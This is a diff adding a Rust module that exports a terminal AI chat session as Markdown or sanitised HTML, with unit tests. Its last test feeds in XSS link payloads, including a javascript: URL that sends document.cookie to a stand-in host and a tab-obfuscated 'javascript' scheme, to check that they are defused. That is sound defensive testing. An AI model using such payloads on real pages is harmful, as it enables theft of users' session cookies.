@@ -0,0 +1,359 @@
+//! Shareable documents of a conversation
+//!
+//! `/export`, `Ctrl+E` and `sabi export <session>` render the chat as
+//! Markdown, or as a standalone HTML page built from that Markdown. Tool
+//! output and shell commands go in fenced blocks.
+
+use std::path::{Path, PathBuf};
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};
+
+use crate::app::App;
+use crate::message::{Message, MessageRole};
+
+/// Format of an exported conversation
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Format {
+    Markdown,
+    Html,
+}
+
+impl Format {
+    /// `md` / `markdown` or `html` / `htm`
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.to_lowercase().as_str() {
+            "md" | "markdown" => Some(Self::Markdown),
+            "html" | "htm" => Some(Self::Html),
+            _ => None,
+        }
+    }
+
+    /// Format a file name asks for by its extension, Markdown by default
+    pub fn from_path(path: &str) -> Self {
+        Path::new(path)
+            .extension()
+            .and_then(|ext| ext.to_str())
+            .and_then(Self::parse)
+            .unwrap_or(Self::Markdown)
+    }
+
+    /// File written when no path is given
+    pub fn default_file(self) -> &'static str {
+        match self {
+            Self::Markdown => "chat_export.md",
+            Self::Html => "chat_export.html",
+        }
+    }
+}
+
+/// Split `[md|html] [path]` arguments into a format and a path
+///
+/// Without a format word the format follows the path's extension.
+pub fn parse_args(arg: &str) -> (Format, Option<&str>) {
+    let arg = arg.trim();
+    let (first, rest) = arg.split_once(char::is_whitespace).unwrap_or((arg, ""));
+    match Format::parse(first) {
+        Some(format) => (format, Some(rest.trim()).filter(|p| !p.is_empty())),
+        None if arg.is_empty() => (Format::Markdown, None),
+        None => (Format::from_path(arg), Some(arg)),
+    }
+}
+
+/// `filename` with `~/` expanded and relative paths joined onto `cwd`
+pub fn resolve_path(cwd: &Path, filename: &str) -> PathBuf {
+    match filename.strip_prefix("~/").zip(dirs::home_dir()) {
+        Some((rest, home)) => home.join(rest),
+        None => cwd.join(filename),
+    }
+}
+
+/// The conversation in `format`
+pub fn render(format: Format, name: &str, messages: &[Message]) -> String {
+    match format {
+        Format::Markdown => markdown(name, messages),
+        Format::Html => html(name, messages),
+    }
+}
+
+/// The conversation as shown in the chat, as Markdown
+///
+/// Roles become headers, naming the tools a reply calls; tool output and
+/// shell escapes are fenced.
+pub fn markdown(name: &str, messages: &[Message]) -> String {
+    let mut out = format!(
+        "# Sabi Chat Export\n\nSession: {} | Exported: {}\n\n---\n\n",
+        name,
+        chrono::Local::now().format("%Y-%m-%d %H:%M:%S")
+    );
+
+    for msg in messages.iter().filter(|m| !m.is_system_prompt()) {
+        let (prefix, role) = match msg.role {
+            MessageRole::User if !msg.is_tool_result() => ("👤", "User"),
+            MessageRole::User | MessageRole::Tool => ("🔧", "Tool result"),
+            MessageRole::Model => ("🤖", "Assistant"),
+            MessageRole::System => ("⚙️", "System"),
+        };
+        let calls: Vec<&str> = msg.tool_calls.iter().map(|c| c.tool.as_str()).collect();
+        if calls.is_empty() {
+            out.push_str(&format!("## {} {}\n\n", prefix, role));
+        } else {
+            out.push_str(&format!(
+                "## {} {} → {}\n\n",
+                prefix,
+                role,
+                calls.join(", ")
+            ));
+        }
+        if let Some(timing) = msg.timing() {
+            out.push_str(&format!("*{}*\n\n", timing));
+        }
+
+        if msg.is_tool_result() {
+            // Header lines as text, the output fenced
+            let (header, output) = msg
+                .content
+                .split_once("Output:\n")
+                .unwrap_or((&msg.content, ""));
+            for line in header.lines().filter(|l| !l.trim().is_empty()) {
+                out.push_str(&format!("{}  \n", line));
+            }
+            out.push_str(&format!("\n{}\n\n", fenced("text", output)));
+        } else if let Some(command) = msg
+            .content
+            .strip_prefix("$ ")
+            .filter(|_| msg.role == MessageRole::System)
+        {
+            out.push_str(&format!("{}\n\n", fenced("sh", command)));
+        } else {
+            out.push_str(&format!("{}\n\n", msg.content.trim_end()));
+        }
+
+        if msg.image.is_some() {
+            out.push_str("*[Image attached]*\n\n");
+        }
+    }
+    out
+}
+
+/// Styles of the HTML page, light or dark with the reader's system
+const STYLE: &str = "\
+:root { color-scheme: light dark; }
+body { max-width: 48rem; margin: 2rem auto; padding: 0 1rem; font: 16px/1.5 system-ui, sans-serif; }
+h2 { font-size: 1.1rem; margin-top: 2rem; border-bottom: 1px solid #8884; }
+pre { padding: 0.75rem; overflow-x: auto; border-radius: 6px; background: #8881; }
+code { font: 0.9em ui-monospace, monospace; }
+table { border-collapse: collapse; }
+th, td { border: 1px solid #8886; padding: 0.25rem 0.5rem; }";
+
+/// The conversation as a standalone HTML page
+pub fn html(name: &str, messages: &[Message]) -> String {
+    let source = markdown(name, messages);
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let mut body = String::new();
+    let mut defuse = Defuse::default();
+    let events = Parser::new_ext(&source, options).map(|event| defuse.event(event));
+    html::push_html(&mut body, events);
+    format!(
+        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n\
+         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
+         <title>{}</title>\n<style>\n{}\n</style>\n</head>\n<body>\n{}</body>\n</html>\n",
+        escape(name),
+        STYLE,
+        body
+    )
+}
+
+/// Keeps rendered markdown from running or loading anything
+///
+/// Raw HTML is shown as text. Links stay live only for http(s), mailto and
+/// relative destinations, and images only for relative ones; anything else
+/// is written out as its markdown text.
+#[derive(Debug, Default)]
+pub struct Defuse {
+    /// Closing text of each open link or image, None if it was kept
+    open: Vec<Option<String>>,
+}
+
+impl Defuse {
+    /// `event` made safe to pass to the HTML renderer
+    pub fn event<'a>(&mut self, event: Event<'a>) -> Event<'a> {
+        let (opening, dest, kept) = match event {
+            Event::Html(raw) | Event::InlineHtml(raw) => return Event::Text(raw),
+            Event::Start(Tag::Link { ref dest_url, .. }) => {
+                let scheme = url_scheme(dest_url);
+                let kept =
+                    is_relative(dest_url) || matches!(scheme.as_str(), "http" | "https" | "mailto");
+                ("[", dest_url.to_string(), kept)
+            }
+            Event::Start(Tag::Image { ref dest_url, .. }) => {
+                ("![", dest_url.to_string(), is_relative(dest_url))
+            }
+            Event::End(TagEnd::Link | TagEnd::Image) => {
+                return match self.open.pop().flatten() {
+                    Some(close) => Event::Text(close.into()),
+                    None => event,
+                };
+            }
+            event => return event,
+        };
+        if kept {
+            self.open.push(None);
+            event
+        } else {
+            self.open.push(Some(format!("]({})", dest)));
+            Event::Text(opening.into())
+        }
+    }
+}
+
+/// `url` as a browser reads it: without whitespace or control characters,
+/// and with backslashes as slashes
+fn normalize_url(url: &str) -> String {
+    url.chars()
+        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
+        .map(|c| if c == '\\' { '/' } else { c })
+        .collect()
+}
+
+/// Lowercase scheme of `url`, empty without one
+fn url_scheme(url: &str) -> String {
+    match normalize_url(url).split_once(':') {
+        Some((scheme, _))
+            if scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+                && scheme
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')) =>
+        {
+            scheme.to_lowercase()
+        }
+        _ => String::new(),
+    }
+}
+
+/// Whether `url` stays on the page's own site: no scheme and no host
+fn is_relative(url: &str) -> bool {
+    url_scheme(url).is_empty() && !normalize_url(url).starts_with("//")
+}
+
+/// `text` with HTML special characters escaped
+pub fn escape(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+}
+
+/// `text` in a code fence longer than any backtick run inside it
+fn fenced(lang: &str, text: &str) -> String {
+    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest.max(2) + 1);
+    format!("{}{}\n{}\n{}", fence, lang, text.trim_end(), fence)
+}
+
+/// Handle `sabi export <id|name> [md|html] [path]`
+///
+/// Without a path the document is printed to stdout.
+pub fn handle_export_command(args: &[String]) -> Result<(), String> {
+    let Some(session) = args.first() else {
+        print_export_help();
+        return Ok(());
+    };
+    let session = App::read_session(session)
+        .map_err(|e| format!("Can't read session '{}': {}", session, e))?;
+    let rest = args[1..].join(" ");
+    let (format, path) = parse_args(&rest);
+    let document = render(format, &session.name, &session.messages);
+    match path {
+        Some(path) => {
+            let cwd = std::env::current_dir().unwrap_or_default();
+            let path = resolve_path(&cwd, path);
+            std::fs::write(&path, document).map_err(|e| e.to_string())?;
+            eprintln!("✓ Exported '{}' to {}", session.name, path.display());
+        }
+        None => print!("{}", document),
+    }
+    Ok(())
+}
+
+fn print_export_help() {
+    println!("Export a saved session\n");
+    println!("Usage:");
+    println!("  sabi export <id|name> [md|html] [path]\n");
+    println!("Without a path the document is printed to stdout. The format");
+    println!("defaults to the path's extension, or Markdown.");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // **Feature: Sabi-TUI, Property: Export Arguments**
+    #[test]
+    fn test_parse_args() {
+        assert_eq!(parse_args(""), (Format::Markdown, None));
+        assert_eq!(parse_args("html"), (Format::Html, None));
+        assert_eq!(
+            parse_args("md notes.txt"),
+            (Format::Markdown, Some("notes.txt"))
+        );
+        assert_eq!(
+            parse_args("HTML  out/chat"),
+            (Format::Html, Some("out/chat"))
+        );
+        assert_eq!(parse_args("share.htm"), (Format::Html, Some("share.htm")));
+        assert_eq!(parse_args("notes"), (Format::Markdown, Some("notes")));
+        assert_eq!(Format::Html.default_file(), "chat_export.html");
+    }
+
+    // **Feature: Sabi-TUI, Property: Tool Calls in Exports**
+    #[test]
+    fn test_markdown_names_tool_calls() {
+        let reply = r#"{"tool": "run_cmd", "command": "ls"}"#;
+        let calls = crate::tool_call::ParsedResponse::parse(reply).tool_calls();
+        let messages = vec![
+            Message::model(reply).with_tool_calls(calls),
+            Message::model("Done."),
+        ];
+        let document = markdown("s", &messages);
+        assert!(document.contains("## 🤖 Assistant → run_cmd\n"));
+        assert!(document.contains("## 🤖 Assistant\n"));
+    }
+
+    // **Feature: Sabi-TUI, Property: HTML Export**
+    #[test]
+    fn test_html_export() {
+        let messages = vec![
+            Message::user("show <b>"),
+            Message::tool("Tool: run_cmd ls\nExit code: 0\nOutput:\na.txt"),
+            Message::system("$ git status"),
+        ];
+        let page = html("Fix <it>", &messages);
+        assert!(page.starts_with("<!DOCTYPE html>"));
+        assert!(page.contains("<title>Fix &lt;it&gt;</title>"));
+        assert!(page.contains("<h2>👤 User</h2>"));
+        assert!(page.contains("<p>show &lt;b&gt;</p>"));
+        assert!(page.contains("<pre><code class=\"language-text\">a.txt\n</code></pre>"));
+        assert!(page.contains("<pre><code class=\"language-sh\">git status\n</code></pre>"));
+        assert!(page.ends_with("</body>\n</html>\n"));
+    }
+
+    // **Feature: Sabi-TUI, Property: Safe Links in Exports**
+    #[test]
+    fn test_html_export_defuses_links_and_images() {
+        let messages = vec![Message::model(
+            "[docs](javascript:fetch('//x/'+document.cookie)) [site](https://example.com) \
+             [local](notes/a.md) <mailto:me@example.com> [tab](java\tscript:alert(1))\n\n\
+             ![pixel](https://tracker.example/p.gif) ![plot](plot.png)",
+        )];
+        let page = html("s", &messages);
+        assert!(!page.contains("href=\"javascript"));
+        assert!(page.contains("[docs](javascript:fetch"));
+        assert!(page.contains("<a href=\"https://example.com\">site</a>"));
+        assert!(page.contains("<a href=\"notes/a.md\">local</a>"));
+        assert!(page.contains("<a href=\"mailto:me@example.com\">"));
+        assert!(!page.contains("<img src=\"https://tracker"));
+        assert!(page.contains("![pixel](https://tracker.example/p.gif)"));
+        assert!(page.contains("<img src=\"plot.png\" alt=\"plot\""));
+    }
+}